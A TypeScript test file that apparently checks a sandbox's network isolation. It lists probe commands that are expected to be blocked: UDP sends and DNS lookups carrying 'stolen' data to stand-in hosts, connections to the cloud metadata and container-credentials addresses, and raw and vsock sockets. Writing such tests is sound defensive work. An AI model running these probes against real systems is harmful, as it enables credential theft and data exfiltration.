import { javascript, type SandboxCase } from "../sandbox-case.ts";

const connect = (options: string) =>
  javascript(
    `const s=require('net').connect(${options});s.on('connect',()=>{console.log('connected');process.exit(0)});s.on('error',()=>process.exit(1))`,
  );

const CASES: Omit<SandboxCase, "isolation">[] = [
  {
    name: "a TCP service of the machine",
    command: ({ tcp_port }) => connect(`${tcp_port},'127.0.0.1'`),
    code: "COMMAND_FAILED",
  },
  {
    name: "a UDP service of the machine",
    command: ({ udp_port }) =>
      javascript(
        `const s=require('dgram').createSocket('udp4');s.send('stolen',${udp_port},'127.0.0.1',()=>setTimeout(()=>process.exit(1),100))`,
      ),
    code: "COMMAND_FAILED",
  },
  { name: "TCP to the world", command: connect("80,'192.0.2.7'"), code: "SANDBOX_NETWORK_DENIED" },
  { name: "TCP to the world by IPv6", command: connect("80,'2001:db8::7'"), code: "SANDBOX_NETWORK_DENIED" },
  {
    name: "UDP to the world",
    command: javascript(
      "const s=require('dgram').createSocket('udp4');s.send('stolen',53,'192.0.2.7',e=>process.exit(e?1:0))",
    ),
    code: "SANDBOX_NETWORK_DENIED",
  },
  {
    name: "a name lookup",
    command: javascript("require('dns').lookup('example.com',e=>process.exit(e?1:0))"),
    code: "SANDBOX_NETWORK_DENIED",
  },
  {
    name: "a name lookup without the system's resolver",
    command: javascript("require('dns').resolve('stolen.example.com',e=>process.exit(e?1:0))"),
    code: "SANDBOX_NETWORK_DENIED",
  },
  { name: "the metadata address", command: connect("80,'169.254.169.254'"), code: "SANDBOX_NETWORK_DENIED" },
  {
    name: "the container credentials",
    command: connect("80,'169.254.170.2'"),
    code: "SANDBOX_NETWORK_DENIED",
  },
  {
    name: "a unix socket of the machine",
    command: ({ unix_socket }) => connect(`'${unix_socket}'`),
    code: "COMMAND_FAILED",
  },
  {
    name: "an abstract socket of the machine",
    command: ({ abstract_socket }) => connect(`'\\0${abstract_socket}'`),
    code: "COMMAND_FAILED",
  },
  {
    name: "the host of a virtual machine (AF_VSOCK)",
    needs: "perl",
    command: `perl -e 'exit(socket(my $s, 40, 1, 0) ? 0 : 1)'`,
    code: "COMMAND_FAILED",
  },
  {
    name: "raw packets",
    needs: "perl",
    command: `perl -e 'exit(socket(my $s, 2, 3, 1) || socket($s, 17, 3, 768) ? 0 : 1)'`,
    code: "COMMAND_FAILED",
  },
  {
    name: "itself, over loopback",
    command: javascript(
      "require('http').createServer((q,r)=>r.end('ok')).listen(0,'127.0.0.1',function(){fetch('http://localhost:'+this.address().port).then(r=>r.text()).then(t=>{console.log(t);process.exit()})})",
    ),
    code: "PASSED",
    prints: "ok\n",
  },
  {
    name: "news of an update, in vain, and goes on",
    command: `${connect("80,'192.0.2.7'")}; echo done`,
    code: "PASSED",
    prints: "done\n",
  },
];

/** Nothing leads out, and wanting out is named when the command failed over it. */
export const NETWORK: SandboxCase[] = CASES.map((each) => ({ isolation: "full", ...each }));
